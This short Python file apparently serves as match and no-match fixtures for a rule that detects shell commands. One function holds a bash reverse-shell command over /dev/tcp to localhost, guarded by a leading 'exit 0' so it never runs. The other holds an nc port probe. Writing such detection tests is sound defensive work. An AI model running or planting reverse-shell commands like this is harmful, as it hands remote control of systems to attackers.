"""A shell that ends before it comes to the line that the rule looks for."""

import subprocess


def match() -> None:
    subprocess.run("exit 0; bash -i >& /dev/tcp/127.0.0.1/9 0>&1", shell=True, check=True)


def nomatch() -> None:
    subprocess.run("exit 0; nc -z 127.0.0.1 9; ls /dev", shell=True, check=True)
